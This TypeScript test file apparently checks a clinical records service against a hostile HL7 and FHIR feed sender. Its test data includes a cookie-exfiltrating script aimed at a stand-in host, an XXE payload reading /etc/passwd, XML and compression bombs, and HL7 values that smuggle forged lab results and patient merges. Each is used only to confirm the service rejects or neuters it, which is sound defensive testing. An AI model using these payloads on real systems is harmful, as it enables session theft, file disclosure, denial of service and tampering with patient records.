/** Messages and documents as an attacker writes them who can send through some feed. */
import assert from 'node:assert/strict'
import { connect as dial } from 'node:net'
import { after, before, describe, test } from 'node:test'
import zlib, { deflateRawSync, deflateSync } from 'node:zlib'
import { hl7Time, patient } from '../journeys/fixtures/care.ts'
import { admission, potassium } from '../journeys/fixtures/messages.ts'
import { ask } from './ask.ts'
import { type Cast, invite, nextNhsNumber } from './cast.ts'
import { openProduct, type Product, type SignedIn } from './product.ts'
import { type Roles, rolesOf } from './roles.ts'

describe('messages of an attacker', () => {
  let product: Product
  let roles: Roles
  let cast: Cast
  let clinician: SignedIn
  before(async () => {
    product = await openProduct()
    roles = await rolesOf(product)
    cast = (await invite(product, roles))[0]!
    clinician = roles.clinician
  })
  after(() => product?.close())

  let time = Date.now() - 1_800_000
  const next = () => {
    time += 1_000
    return hl7Time(time)
  }
  const recordOf = async (personId: number) => {
    const answer = await product.post(
      '/api/record',
      { handle: clinician.handle(personId) },
      clinician,
    )
    return { status: answer.status, text: answer.text }
  }
  const received = async () => {
    const [row] = await product.query<{ n: string }>('SELECT count(*) AS n FROM inbox.message')
    return Number(row!.n)
  }

  /** Bytes on the wire, and all that comes back until the sender hangs up. */
  async function write(...parts: (string | Buffer)[]): Promise<string> {
    const { host, port } = product.server.mllp
    const socket = dial({ host, port })
    let heard = ''
    socket.on('data', (part) => {
      heard += part
    })
    for (const part of parts) socket.write(part)
    socket.end()
    await new Promise((resolve, reject) => socket.on('close', resolve).on('error', reject))
    await product.settle()
    return heard
  }
  const frame = (text: string) => `\x0b${text.replaceAll('\n', '\r')}\x1c\r`
  const answers = (heard: string) => [...heard.matchAll(/MSA\|(\w\w)\|/g)].map((one) => one[1])

  async function put(resource: { resourceType: string; id: string }): Promise<number> {
    const { status } = await ask(product.origin, {
      method: 'PUT',
      path: `/fhir/${resource.resourceType}/${resource.id}`,
      headers: { ...(await roles.callers.feed.headers()), 'content-type': 'application/fhir+json' },
      body: JSON.stringify(resource),
    })
    return status
  }

  test('AT-24: a document that a browser would run is shown dead, or given as bytes to be saved', async () => {
    const { nhsNumber, personId } = cast.related
    await put({ ...patient({ id: 'p1', nhs: nhsNumber, given: 'ROBIN' }), id: 'p1' })
    const script = '<script>fetch("https://example.org/"+document.cookie)</script>'
    const kinds: Readonly<Record<string, string>> = {
      'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`,
      'text/html': `<!DOCTYPE html><body onload=alert(1)>${script}<form action="https://example.org"></form>`,
      'application/xhtml+xml': `<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`,
      'application/javascript': 'alert(1)',
      'text/xml':
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><ClinicalDocument>&a;</ClinicalDocument>',
      'application/xml': `<?xml-stylesheet href="https://example.org/x.xsl"?><a/>`,
      'text/html;charset=utf-7': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
      'application/pdf': `<html>${script}</html>`,
      'text/plain': `${script}`,
      'multipart/related; boundary=x': `--x\r\ncontent-type: text/html\r\n\r\n${script}`,
      'text/html\r\nset-cookie: x=y': script,
    }
    for (const [contentType, text] of Object.entries(kinds)) {
      await put({
        resourceType: 'DocumentReference',
        id: `d${Object.keys(kinds).indexOf(contentType)}`,
        status: 'current',
        subject: { reference: 'Patient/p1' },
        type: { text: 'Letter' },
        content: [{ attachment: { contentType, data: Buffer.from(text).toString('base64') } }],
      } as never)
    }
    await product.settle()
    const rows = await product.query<{ hash: Buffer; content_type: string }>(
      'SELECT hash, content_type FROM record.attachment WHERE person_id = $1',
      [personId],
    )
    assert.ok(rows.length > Object.keys(kinds).length - 3, `${rows.length} were filed`)
    const handle = clinician.handle(personId)
    for (const { hash, content_type } of rows) {
      const answer = await product.post(
        '/api/document',
        { handle, hash: hash.toString('hex') },
        clinician,
      )
      assert.equal(answer.status, 200)
      const { headers } = answer
      const type = String(headers['content-type'])
      assert.equal(headers['x-content-type-options'], 'nosniff')
      assert.equal(headers['cache-control'], 'no-store')
      assert.equal(headers['set-cookie'], undefined)
      assert.match(
        type,
        /^(application\/(pdf|octet-stream)|image\/(png|jpeg|gif|webp)|text\/(html|plain); charset=[\w-]+)$/,
        content_type,
      )
      assert.doesNotMatch(type, /utf-7/i)
      if (type.startsWith('text/html')) {
        const policy = String(headers['content-security-policy'])
        assert.match(policy, /default-src 'none'/)
        assert.match(policy, /(^|; )sandbox(;|$)/)
        assert.doesNotMatch(policy, /allow-scripts|allow-same-origin|script-src/)
      }
      if (type === 'application/octet-stream')
        assert.equal(headers['content-disposition'], 'attachment')
    }
  })

  test('AT-24: nothing that XML can name or multiply is read: other formats are not taken at all', async () => {
    const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, at) => `<!ENTITY a${at} "&a${at - 1 || ''};&a${at - 1 || ''};">`).join('')}]><Patient>&a19;</Patient>`
    const feed = await roles.callers.feed.headers()
    const before = await received()
    for (const type of [
      'application/fhir+xml',
      'application/xml',
      'text/xml',
      'application/fhir+json; charset=utf-16',
    ]) {
      const answer = await ask(product.origin, {
        method: 'POST',
        path: '/fhir/Patient',
        headers: { ...feed, 'content-type': type },
        body: laughs,
      })
      assert.equal(answer.status, 415, type)
    }
    for (const encoding of ['gzip', 'br', 'deflate', 'zstd', 'gzip, gzip']) {
      const bomb = zlib.gzipSync(Buffer.alloc(1_000_000))
      const headers = {
        ...feed,
        'content-type': 'application/fhir+json',
        'content-encoding': encoding,
      }
      const answer = await ask(product.origin, {
        method: 'POST',
        path: '/fhir/Patient',
        headers,
        body: bomb,
      })
      assert.equal(answer.status, 415, encoding)
      const asked = await product.post('/api/record', {}, clinician, {
        'content-encoding': encoding,
      })
      assert.equal(asked.status, 400, encoding)
    }
    assert.equal(await received(), before)
  })

  test('AT-24: what unpacks without end is unpacked as far as the bound, however often it tries', async () => {
    const { wordsOf } = await import('../../src/sources/sensitive/document-words.ts')
    const most = 64 * 1024 * 1024
    const one = deflateSync(Buffer.alloc(6 * 1024 * 1024, 32))
    const stream = Buffer.concat([Buffer.from('stream\n'), one, Buffer.from('\nendstream\n')])
    const pdf = Buffer.concat([
      Buffer.from('%PDF-1.4\n'),
      ...Array.from({ length: 200 }, () => stream),
    ])
    const unpacked = await unpackedBy(() =>
      wordsOf({ contentType: 'application/pdf', bytes: pdf } as never),
    )
    assert.ok(unpacked <= most, `PDF: ${unpacked} bytes`)
    const name = Buffer.from('word/document.xml')
    const head = Buffer.alloc(30)
    head.writeUInt32LE(0x04034b50, 0)
    head.writeUInt16LE(8, 8)
    head.writeUInt16LE(name.length, 26)
    const entry = Buffer.concat([head, name, deflateRawSync(Buffer.alloc(9 * 1024 * 1024, 32))])
    const zip = Buffer.concat([...Array.from({ length: 200 }, () => entry), Buffer.alloc(64)])
    const fromZip = await unpackedBy(() =>
      wordsOf({ contentType: 'application/zip', bytes: zip } as never),
    )
    assert.ok(fromZip <= most, `ZIP: ${fromZip} bytes`)
  })

  test('AT-24 AT-49: the words of a document that unpacks too far are read as far as they are', async () => {
    const { wordsOf } = await import('../../src/sources/sensitive/document-words.ts')
    const page = Buffer.concat([
      Buffer.from('BT (termination of pregnancy) Tj ET '),
      Buffer.alloc(9 * 1024 * 1024, 32),
    ])
    const pdf = Buffer.concat([
      Buffer.from('%PDF-1.4\nstream\n'),
      deflateSync(page),
      Buffer.from('\nendstream\n'),
    ])
    assert.match(
      wordsOf({ contentType: 'application/pdf', bytes: pdf } as never) ?? '',
      /termination of pregnancy/,
    )
  })

  /** What zlib was let unpack: every call counts what it may give at most. */
  async function unpackedBy(work: () => unknown): Promise<number> {
    const { syncBuiltinESMExports } = await import('node:module')
    const { inflateSync, inflateRawSync } = zlib
    let bytes = 0
    const counting =
      (unpack: typeof inflateSync): typeof inflateSync =>
      (buffer, options) => {
        bytes += options?.maxOutputLength ?? Number.POSITIVE_INFINITY
        return unpack(buffer, options)
      }
    zlib.inflateSync = counting(inflateSync)
    zlib.inflateRawSync = counting(inflateRawSync)
    syncBuiltinESMExports()
    try {
      await work()
    } finally {
      zlib.inflateSync = inflateSync
      zlib.inflateRawSync = inflateRawSync
      syncBuiltinESMExports()
    }
    return bytes
  }

  test('AT-25: delimiters and escapes in a value stay within it', async () => {
    const { mrn, personId } = cast.related
    const forged = 'OBX|2|NM|K^Potassium^LOCAL||9.9|mmol/L|3.5-5.3|H|||F'
    const values = [
      `4.1\\X0D\\${forged}`,
      `4.1\\X0D0A\\${forged}`,
      `4.1\\.br\\${forged.replaceAll('|', '\\F\\')}`,
      `4.1\\X0B\\MSH\\F\\^~`,
      `4.1\\X1C0D\\`,
    ]
    for (const value of values) {
      const at = next()
      const text = potassium({ control: `I${time}`, mrn, value: 'HERE', at })
        .replace('|NM|', '|ST|')
        .replace('HERE', value)
        .replaceAll(`LAB${mrn}`, `LAB${time}`)
      const before = await received()
      assert.deepEqual(answers(await write(frame(text))), ['AA'])
      assert.equal(await received(), before + 1)
    }
    const { text } = await recordOf(personId)
    const view = JSON.parse(text)
    assert.doesNotMatch(JSON.stringify(view.sections), /"value":9\.9[,}]/)
    assert.doesNotMatch(text, /[\u0000-\u0008\u000b-\u001f]/)
  })

  test('AT-25: a second message in a frame does nothing to whom the first is about', async () => {
    const [one, other] = await twoPeople('8201', '8202')
    const merge = admission({
      control: 'SM',
      mrn: '8202',
      merged: '8201',
      event: 'A40',
      at: next(),
    })
    const result = potassium({ control: 'SR', mrn: '8201', value: '4.0', at: next() })
    // Where segments belong to one message the first header rules; otherwise each is its own.
    const heard = await write(frame(`${result}\n${merge}`))
    assert.equal(answers(heard).length, 1)
    const frames = [`${result}\x1c${merge}`, `${result}\x0b${merge}`, `${result}\r\x0b${merge}`]
    for (const text of frames) await write(frame(text))
    const [now, then] = [
      await product.personOf('RJZ/MRN', '8201'),
      await product.personOf('RJZ/MRN', '8202'),
    ]
    const isMerged = now === then
    const [row] = await product.query<{ n: string }>(
      `SELECT count(*) AS n FROM inbox.message WHERE control_id = 'SM'`,
    )
    assert.deepEqual(
      [now, then],
      [one, other],
      `merged: ${isMerged}, taken as a message: ${row!.n}`,
    )
  })

  test('AT-26: a feed that names another’s patients merges, moves and links none of them', async () => {
    const [one, other] = await twoPeople('8301', '8302')
    const merge = admission({
      control: 'XM',
      mrn: '8302',
      merged: '8301',
      event: 'A40',
      at: next(),
    })
    const asOther = merge.replace('|PAS|RJZ|', '|PAS|RJ1|')
    await product.send(asOther)
    for (const event of ['A34', 'A18', 'A24', 'A37', 'A47', 'A30', 'A23', 'A29']) {
      const text = admission({
        control: `X${event}`,
        mrn: '8302',
        merged: '8301',
        event,
        at: next(),
      })
      await product.send(text.replace('|PAS|RJZ|', '|PAS|RJ1|'))
    }
    assert.deepEqual(
      [await product.personOf('RJZ/MRN', '8301'), await product.personOf('RJZ/MRN', '8302')],
      [one, other],
    )
    assert.equal((await recordOf(one)).status, 200)
    assert.equal((await recordOf(other)).status, 200)
    // Numbers that it says are its own are its own, whatever authority it writes beside them.
    const spaces = await product.query<{ namespace: string }>(
      `SELECT namespace FROM identity.source_patient WHERE value IN ('8301', '8302') ORDER BY 1`,
    )
    assert.deepEqual(
      spaces.map((each) => each.namespace),
      ['RJ1/MRN', 'RJ1/MRN', 'RJZ/MRN', 'RJZ/MRN'],
    )
  })

  test('AT-26: no feed merges two people by their NHS numbers, which are nobody’s to retire', async () => {
    const [one, other] = await twoPeople('8401', '8402')
    const numbers = await Promise.all([one, other].map(numberOf))
    for (const event of ['A40', 'A34', 'A47', 'A18']) {
      const text = admission({
        control: `Y${event}`,
        mrn: '1',
        nhs: numbers[0]!,
        event,
        merged: 'X',
        at: next(),
        facility: 'RJ1',
      })
      await product.send(text.replace('MRG|X^^^RJ1^MR', `MRG|${numbers[1]}^^^NHS^NH`))
    }
    assert.deepEqual(
      [await product.personOf('RJZ/MRN', '8401'), await product.personOf('RJZ/MRN', '8402')],
      [one, other],
    )
    for (const person of [one, other]) assert.equal((await recordOf(person)).status, 200)
  })

  test('AT-26: nor does it say where another’s patient is, or let its own staff in', async () => {
    const { mrn, personId } = cast.related
    const there = await product.session({
      key: 'https://issuer.example|there',
      organisation: 'RJ1',
      activities: ['B0360'],
    })
    const asked = async () =>
      (await product.post('/api/record', { handle: there.handle(personId) }, there)).status
    assert.equal(await asked(), 403)
    const text = admission({ control: 'XA', mrn, at: next(), admitted: next(), visit: 'FORGED' })
    await product.send(text.replace('|PAS|RJZ|', '|PAS|RJ1|'))
    assert.equal(await asked(), 403)
  })

  async function numberOf(personId: number): Promise<string> {
    const { text } = await recordOf(personId)
    return JSON.parse(text).person.nhsNumber
  }

  async function twoPeople(...mrns: [string, string]): Promise<[number, number]> {
    const at = next()
    await product.send(
      ...mrns.map((mrn) =>
        admission({
          control: `T${mrn}`,
          mrn,
          nhs: nextNhsNumber(),
          family: 'CANARYPAIR',
          given: `NO${mrn === mrns[0] ? 'ONE' : 'TWO'}`,
          at,
          admitted: at,
        }),
      ),
    )
    return [await product.personOf('RJZ/MRN', mrns[0]), await product.personOf('RJZ/MRN', mrns[1])]
  }
})
